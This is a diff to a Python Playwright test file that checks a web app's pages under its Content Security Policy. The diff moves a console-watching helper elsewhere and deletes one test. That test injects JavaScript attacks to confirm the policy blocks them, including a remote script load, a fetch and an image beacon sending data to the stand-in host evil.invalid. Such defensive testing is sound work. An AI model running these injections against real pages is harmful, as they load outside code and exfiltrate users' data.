@@ -1,10 +1,8 @@
 """The pages in a real Chromium, under the shipped security headers."""
 
-from collections.abc import Iterator
 from pathlib import Path
 
-import pytest
-from playwright.sync_api import Browser, ConsoleMessage, Page, Route, expect
+from playwright.sync_api import Route, expect
 
 from tests.browser import kept
 from tests.browser.chart import CHART
@@ -13,38 +11,12 @@ from tests.browser.records import choose
 from tests.browser.tables import people
 from tests.deploy.conftest import QUIET
 from tests.deploy.proxy import Proxy, proxy
+from tests.deploy.watched import Watched
 from tests.said import TITLES, said
 from tools.served import running
 from ui.routes import Name
 
 ASKED = CATALOGUE.by_factor[CATALOGUE.themes[0].factors[0]]
-POLICY = "Content Security Policy"
-# Streamlit finds out at which path it is by asking; each guess that is wrong is told like this.
-GUESSED = "the server responded with a status of 404"
-
-
-class Watched:
-    """A page of its own, and what its console said that it should not."""
-
-    def __init__(self, browser: Browser) -> None:
-        # The certificate is its own issuer.
-        self.context = browser.new_context(ignore_https_errors=True, reduced_motion="reduce")
-        self.page: Page = self.context.new_page()
-        self.said: list[str] = []
-        self.page.on("console", self._hear)
-        self.page.on("pageerror", lambda error: self.said.append(str(error)))
-
-    def _hear(self, message: ConsoleMessage) -> None:
-        if POLICY in message.text or (message.type == "error" and GUESSED not in message.text):
-            self.said.append(message.text)
-
-
-@pytest.fixture
-def watched(browser: Browser) -> Iterator[Watched]:
-    """Return a page that is watched."""
-    watched = Watched(browser)
-    yield watched
-    watched.context.close()
 
 
 def test_pages_charts_uploads_and_downloads_work_under_the_policy(
@@ -84,24 +56,6 @@ def test_while_the_scripts_are_on_their_way_the_page_says_so(
     watched.page.unroute("**/static/js/*")
     Person(watched.page, front.address).heading(said("start-title"))
     expect(watched.page.get_by_text("Backwise is loading.")).to_have_count(0)
-
-
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "document.head.append(Object.assign(document.createElement('script'), {text: '1'}))",
-        "document.head.append(Object.assign(document.createElement('script'),"
-        " {src: 'https://evil.invalid/x.js'}))",
-        "fetch('https://evil.invalid/?answers').catch(() => 0)",
-        "new Image().src = 'https://evil.invalid/?answers'",
-        "setTimeout('1')",
-    ],
-    ids=["own script", "script from elsewhere", "sending", "image", "text as code"],
-)
-def test_what_an_attacker_would_do_is_stopped(front: Proxy, watched: Watched, attack: str) -> None:
-    watched.page.goto(f"{front.address}/_stcore/health")
-    with watched.page.expect_console_message(lambda said: POLICY in said.text):
-        watched.page.evaluate(attack)
 
 
 def test_when_its_replica_dies_an_open_page_goes_on_at_the_other_with_what_was_kept(
